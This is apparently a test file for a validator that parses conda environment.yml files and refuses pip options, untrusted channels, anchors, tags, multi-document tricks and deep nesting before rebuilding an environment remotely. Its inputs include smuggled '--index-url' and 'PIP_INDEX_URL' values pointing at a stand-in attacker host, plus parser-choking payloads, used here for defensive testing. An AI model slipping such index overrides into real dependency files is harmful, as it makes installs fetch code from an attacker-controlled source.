// environment.yml is read as YAML (src/remote/guards/environment-yml.ts, the `yaml` package)
// and checked as a structure (checkCondaEnvironment in src/core/guards/environment.ts); the new
// box gets a file written from the checked values only. Each way round the old line-based check
// is here: flow style, a quoted key, an anchor and alias, a tag, several documents, a block
// scalar, a comment after "pip:", a merge key; and the normal shape of a conda export passes.
import { strict as assert } from 'node:assert';
import { parseAllDocuments } from 'yaml';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkRebuild, planRebuild, writeCapture, type EnvCapture } from '../../src/app/environment';
import { runCli } from '../support/cli';
import { ASKABLE_PROBLEMS, checkCondaEnvironment } from '../../src/core/guards/environment';
import { checkEnvironmentYml, readEnvironmentYaml } from '../../src/remote/guards/environment-yml';
import { bestCpuMs } from '../support/timing';

// The shape `conda env export --no-builds` writes (two-space list items, the pip section's
// items at four, prefix last), as in the public exports in conda/conda's own test data
// (tests/env/support/example/environment_with_pip.yml for the pip section,
// environment_pinned.yml for variables) and the export pasted in a text2QDMR project notes
// file (name/dependencies/pip/prefix, 2022); the channel is the Tsinghua mirror an AutoDL box's
// .condarc names (as in the GR00T_n15 gr00t_env.yml export).
const EXPORT = `name: WangYC_env_38
channels:
  - https://mirrors.tuna.tsinghua.edu.cn/anaconda/cloud/conda-forge
  - defaults
dependencies:
  - _libgcc_mutex=0.1
  - _openmp_mutex=4.5
  - ca-certificates=2022.4.26
  - cudatoolkit=11.3.1
  - ld_impl_linux-64=2.35.1
  - libgcc-ng=9.3.0
  - openssl=1.1.1o
  - pip=21.2.4
  - python=3.8.5
  - pytorch=1.11.0
  - pytorch-mutex=1.0
  - torchvision=0.12.0
  - typing_extensions=3.10.0.2
  - zlib=1.2.11
  - pip:
    - absl-py==1.0.0
    - huggingface-hub==0.4.0
    - nvidia-ml-py3==7.352.0
    - scikit-learn==1.0.2
    - torch-tb-profiler==0.4.0
    - transformers==4.17.0
prefix: /home/lihaoyang/ENTER/envs/python38
`;

const EVIL = 'http://evil.example.invalid/simple';

/** [line, kind] of each problem. */
const kinds = (yml: string, allow = false) => checkEnvironmentYml(yml, { allowPipOptions: allow }).map((p) => [p.line, p.kind]);

describe('environment.yml read as YAML', () => {
  it('a real conda export passes, and the file for the new box carries exactly its checked values', () => {
    assert.deepEqual(kinds(EXPORT), []);
    const r = checkCondaEnvironment(readEnvironmentYaml(EXPORT));
    assert.deepEqual(r.env?.channels, ['https://mirrors.tuna.tsinghua.edu.cn/anaconda/cloud/conda-forge', 'defaults']);
    assert.ok(r.env?.conda.includes('python=3.8.5'));
    assert.ok(!r.env?.conda.some((c) => /^(pytorch|torchvision|cudatoolkit|pytorch-mutex)=/.test(c)), 'torch family left out for the new driver');
    assert.deepEqual(r.env?.pip, ['absl-py==1.0.0', 'huggingface-hub==0.4.0', 'nvidia-ml-py3==7.352.0', 'scikit-learn==1.0.2', 'torch-tb-profiler==0.4.0', 'transformers==4.17.0']);
    assert.deepEqual(
      r.dropped.map((d) => [d.line, d.reason]),
      [
        [9, 'torchFamily'],
        [15, 'torchFamily'],
        [16, 'torchFamily'],
        [17, 'torchFamily'],
      ],
    );
    const c: EnvCapture = { capturedAt: 1, source: 'a', pythonVersion: '3.8.5', condaEnv: 'x', torch: null, torchCuda: null, driverVersion: null, driverMaxCuda: null, gpus: [], requirements: 'rich==13.7.0\n', environmentYml: EXPORT };
    const plan = planRebuild(c, { envName: 'moved', targetDriver: { version: null, maxCuda: null } });
    assert.ok(plan.ok);
    const out = plan.files.find((f) => f.name === 'environment.yml')!.text;
    assert.match(out, /^name: moved\n/);
    assert.doesNotMatch(out, /prefix:|pytorch=/);
    // What conda on the new box reads is the checked values, and nothing else.
    const back = parseAllDocuments(out)[0]!.toJS() as { dependencies: Array<string | { pip: string[] }>; channels: string[] };
    assert.deepEqual(back.channels, r.env!.channels);
    assert.deepEqual(back.dependencies, [...r.env!.conda, { pip: r.env!.pip }]);
  });

  it('flow style: {pip: [--index-url …]} is checked like a block list', () => {
    assert.deepEqual(kinds(`dependencies:\n  - numpy\n  - {pip: [--index-url ${EVIL}, peft==0.7.1]}\n`), [[3, 'pipOption']]);
    assert.deepEqual(kinds(`{dependencies: [python=3.10, {pip: ["-i ${EVIL}"]}]}\n`), [[1, 'pipOption']]);
  });

  it('a quoted "pip": key, or a comment after pip:, hides nothing', () => {
    assert.deepEqual(kinds(`dependencies:\n  - "pip":\n    - --extra-index-url ${EVIL}\n`), [[3, 'pipOption']]);
    assert.deepEqual(kinds(`dependencies:\n  - 'pip':\n    - -f ${EVIL}\n`), [[3, 'pipOption']]);
    assert.deepEqual(kinds(`dependencies:\n  - pip:   # from the old box\n    # - harmless\n    - --trusted-host evil.example.invalid\n`), [[4, 'pipOption']]);
  });

  it('anchors, aliases, tags, merge keys, directives and several documents are refused', () => {
    const cases: Array<[string, RegExp]> = [
      [`x: &evil [--index-url ${EVIL}]\ndependencies:\n  - pip: *evil\n`, /anchor \(&evil\)/],
      [`dependencies:\n  - pip: *evil\n`, /alias|YAML error/],
      [`dependencies:\n  - !!str numpy\n`, /a tag/],
      [`dependencies: !custom\n  - numpy\n`, /a tag|Unresolved tag/],
      [`base: {pip: [x]}\ndependencies:\n  - <<: {pip: [--index-url ${EVIL}]}\n`, /merge key/],
      [`%YAML 1.1\n---\ndependencies:\n  - numpy\n`, /directive/],
      [`dependencies:\n  - numpy\n---\ndependencies:\n  - pip:\n    - --index-url ${EVIL}\n`, /2 YAML documents/],
      [`dependencies:\n  - pip:\n    - |\n      --index-url ${EVIL}\n`, /block scalar/],
      [`dependencies:\n  - pip:\n    - >-\n      peft==0.7.1\n`, /block scalar/],
      [`dependencies:\n  - "peft==0.7.1\\n--index-url ${EVIL}"\n`, /line break/],
      [`dependencies:\n  - numpy\ndependencies:\n  - pip: [--index-url ${EVIL}]\n`, /YAML error: Map keys must be unique/],
      [`dependencies:\n  - [numpy\n`, /YAML error/],
      [`dependencies:\n  - ? [a, b]\n    : c\n`, /not a plain string/],
      [`extras:\n  - pip:\n    - --index-url ${EVIL}\n`, /./],
      [`dependencies:\n  - conda: [numpy]\n`, /other than pip/],
      [`dependencies: numpy\n`, /not a list/],
    ];
    for (const [yml, why] of cases) {
      const p = checkEnvironmentYml(yml);
      assert.ok(p.length > 0, `not refused:\n${yml}`);
      assert.ok(p.some((x) => !ASKABLE_PROBLEMS.has(x.kind)), `askable only:\n${yml}`);
      assert.match(p.map((x) => x.text).join('; '), why, yml);
      // The user's yes to pip options does not pass what cannot be checked.
      assert.ok(checkEnvironmentYml(yml, { allowPipOptions: true }).length > 0, `passed with allowPipOptions:\n${yml}`);
    }
    assert.deepEqual(kinds(`extras:\n  - pip:\n    - x\n`), [[1, 'unknownKey']]);
    assert.deepEqual(kinds(`comment: an unknown scalar is not written anywhere\ndependencies:\n  - numpy\n`), []);
  });

  it('channels, channel-prefixed specs, URL specs and variables need the user’s yes', () => {
    const yml = ['channels:', '  - evil-user', '  - http://mirrors.tuna.tsinghua.edu.cn/anaconda/cloud/pytorch', '  - https://user:tok@conda.example.invalid/c', '  - conda-forge', 'dependencies:', '  - evil-user::numpy=1.26', '  - conda-forge::scipy', `  - ${EVIL}/numpy-1.0.tar.bz2`, '  - numpy[channel=evil-user]', 'variables:', '  PIP_INDEX_URL: http://evil.example.invalid/simple', ''].join('\n');
    assert.deepEqual(kinds(yml), [
      [2, 'channel'],
      [3, 'channel'],
      [4, 'credentialUrl'],
      [7, 'channel'],
      [9, 'notARequirement'],
      [10, 'notARequirement'],
      [12, 'envVariable'],
    ]);
    assert.deepEqual(kinds(yml, true), []);
    const r = checkCondaEnvironment(readEnvironmentYaml(yml), { allowPipOptions: true });
    assert.deepEqual(r.env?.variables, [['PIP_INDEX_URL', 'http://evil.example.invalid/simple']]);
  });

  it('nesting a parser would choke on is refused before parsing, fast', () => {
    for (const yml of ['['.repeat(200_000), '- '.repeat(100_000) + 'x', `dependencies:\n${'  '.repeat(40)}- x\n`, '{a: '.repeat(50_000)]) {
      const r = readEnvironmentYaml(yml);
      assert.ok(!r.ok, yml.slice(0, 20));
      const ms = bestCpuMs(() => readEnvironmentYaml(yml));
      assert.ok(ms < 200, `${ms.toFixed(0)} ms CPU`);
    }
    const big = readEnvironmentYaml('# x\n'.repeat(100_000));
    assert.deepEqual(big.ok ? null : big.kind, 'tooLarge');
    // Quotes and comments do not hide brackets from the count, nor does an apostrophe in a word.
    assert.ok(!readEnvironmentYaml(`note: don't\nx: ${'['.repeat(20)}\n`).ok);
  });

  it('the rebuild check refuses an unreadable environment.yml with its line; plain requirement checks are unchanged', () => {
    const c: EnvCapture = { capturedAt: 1, source: 'a', pythonVersion: '3.10.13', condaEnv: 'x', torch: null, torchCuda: null, driverVersion: null, driverMaxCuda: null, gpus: [], requirements: 'numpy==1.26.4\n', environmentYml: `dependencies:\n  - {pip: [--index-url ${EVIL}]}\n` };
    const r = checkRebuild(c, { envName: 'moved' });
    assert.deepEqual(r.problems.map((p) => p.kind), ['pipOption']);
    assert.equal(r.environmentYml, null);
    const anchored = checkRebuild({ ...c, environmentYml: 'a: &x [1]\n' }, { envName: 'moved', allowPipOptions: true });
    assert.deepEqual(anchored.problems.map((p) => p.kind), ['unsupportedYaml']);
    assert.ok(!planRebuild({ ...c, environmentYml: 'a: &x [1]\n' }, { envName: 'moved', allowPipOptions: true, targetDriver: { version: null, maxCuda: null } }).ok);
  });

  it('the CLI refuses a capture whose environment.yml hides a pip option in flow style, before connecting, naming the line', async function () {
    this.timeout(30000);
    const dir = mkdtempSync(join(tmpdir(), 'gpr-envyml-'));
    try {
      const c: EnvCapture = { capturedAt: 1, source: 'a', pythonVersion: '3.10.13', condaEnv: 'x', torch: null, torchCuda: null, driverVersion: null, driverMaxCuda: null, gpus: [], requirements: 'numpy==1.26.4\n', environmentYml: `name: x\ndependencies:\n  - python=3.10\n  - {pip: [--index-url ${EVIL}]}\n` };
      await writeCapture(dir, c);
      // Port 1: nothing listens there; the refusal comes first.
      const r = runCli(['env', 'rebuild', 'ssh://u@127.0.0.1:1', '--from', dir, '--name', 'moved'], { env: { GPU_RENT_HOME: join(dir, '.home') } });
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, /environment\.yml line 4 is a pip option \(--index-url http:\/\/evil\.example\.invalid\/simple\)/);
      await writeCapture(dir, { ...c, environmentYml: 'dependencies: &d\n  - numpy\n' });
      const anchored = runCli(['env', 'rebuild', 'ssh://u@127.0.0.1:1', '--from', dir, '--name', 'moved', '--allow-pip-options'], { env: { GPU_RENT_HOME: join(dir, '.home') } });
      assert.equal(anchored.code, 2, anchored.stderr);
      assert.match(anchored.stderr, /cannot be checked: an anchor \(&d\)/);
      assert.match(anchored.stderr, /--allow-pip-options does not pass the other lines/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
